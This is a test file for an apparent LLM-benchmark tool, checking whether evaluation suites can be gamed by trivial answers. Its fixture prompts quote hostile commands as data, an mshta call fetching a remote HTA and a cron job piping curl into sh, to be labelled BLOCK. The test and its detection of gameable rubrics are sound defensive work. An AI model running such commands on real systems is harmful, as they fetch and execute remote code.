import {mkdtempSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {describe, expect, it} from 'vitest';
import {runInProcess} from './in-process.js';

const dir = mkdtempSync(join(tmpdir(), 'llmtop-suite-check-'));
/** A keyword rubric of the old kind: one label line plus a dump of IDs games it. */
const GAMEABLE = join(dir, 'gameable.yaml');
writeFileSync(
	GAMEABLE,
	`name: gameable
prompts:
  - id: mshta
    prompt: 'mshta.exe http://203.0.113.5/run.hta. Line 1: ALLOW or BLOCK. Line 2: the technique ID.'
    reference: "BLOCK\\nT1218.005"
    checks:
      - one-of: [ALLOW, BLOCK]
        expect: BLOCK
        at: anywhere
      - regex: 'T1218\\.005'
  - id: cron
    prompt: 'A crontab runs curl | sh every 5 minutes. Line 1: ALLOW or BLOCK. Line 2: the technique ID.'
    reference: "BLOCK\\nT1053.003"
    checks:
      - one-of: [ALLOW, BLOCK]
        expect: BLOCK
        at: anywhere
      - regex: 'T1053\\.003'
`,
);
const BROKEN = join(dir, 'broken.yaml');
writeFileSync(BROKEN, 'name: broken\nprompts:\n  - id: a\n    prompt: p\n    reference: T1047\n    checks: [{contains: T1059}]\n');

describe('llmtop suite check', () => {
	it('passes every shipped suite (exit 0) and prints the best adversary per prompt and suite-wide', async () => {
		const result = await runInProcess(['suite', 'check']);
		expect(result.stderr).toEqual([]);
		expect(result.code).toBe(0);
		const text = result.stdout.join('\n');
		expect(text).toMatch(/^endpoint-security \(.*endpoint-security\.yaml\): 24 prompts, \d+ adversaries, 0 warnings$/m);
		expect(text).toMatch(/^ {4}ioc-extraction-json +\d\.\d\d {2}\S/m);
		expect(text).toMatch(/^ {2}gamed ceiling 0\.\d{3} \(.+\) < 0\.30: sound$/m);
		expect(text).toMatch(/^smoke \(/m);
	});

	it('exits 1 for a gameable suite, naming the adversary', async () => {
		const result = await runInProcess(['suite', 'check', GAMEABLE]);
		expect(result.code).toBe(1);
		expect(result.stdout.join('\n')).toMatch(/gamed ceiling 0\.500 \(every value\) >= 0\.30: GAMEABLE/);
	});

	it('--max-gamed moves the bar; --json prints the findings', async () => {
		const result = await runInProcess(['suite', 'check', 'smoke', '--max-gamed', '0.05', '--json']);
		expect(result.code).toBe(1);
		const json = JSON.parse(result.stdout.join('\n')) as {
			maxGamed: number;
			suites: Array<{
				suite: string;
				gameable: boolean;
				gamedCeiling: {name: string; score: number};
				prompts: unknown[];
				adversaries: Array<{name: string; score: number}>;
			}>;
		};
		expect(json.maxGamed).toBe(0.05);
		expect(json.suites).toHaveLength(1);
		expect(json.suites[0]).toMatchObject({suite: 'smoke', gameable: true});
		expect(json.suites[0]!.gamedCeiling.score).toBeGreaterThanOrEqual(0.05);
		expect(json.suites[0]!.adversaries.map((a) => a.name)).toEqual(
			expect.arrayContaining(['blank', 'prompt echoed', 'every label', 'every value', 'universal JSON', 'universal JSON, repeated keys']),
		);
	});

	it('exits 2 with one line for a suite that does not load', async () => {
		const result = await runInProcess(['suite', 'check', BROKEN]);
		expect(result.code).toBe(2);
		expect(result.stderr).toEqual([`llmtop: ${BROKEN}:5: the reference answer of prompt "a" scores 0.00, not 1; not met: contains "T1059" (none found)`]);
		expect((await runInProcess(['suite', 'check', join(dir, 'missing.yaml')])).code).toBe(2);
	});

	it('exits 2 for bad usage', async () => {
		expect((await runInProcess(['suite'])).code).toBe(2);
		expect((await runInProcess(['suite', 'lint'])).code).toBe(2);
		expect((await runInProcess(['suite', 'check', '--max-gamed', '2'])).code).toBe(2);
		expect((await runInProcess(['suite', 'check', 'a.yaml', 'b.yaml'])).code).toBe(2);
	});
});
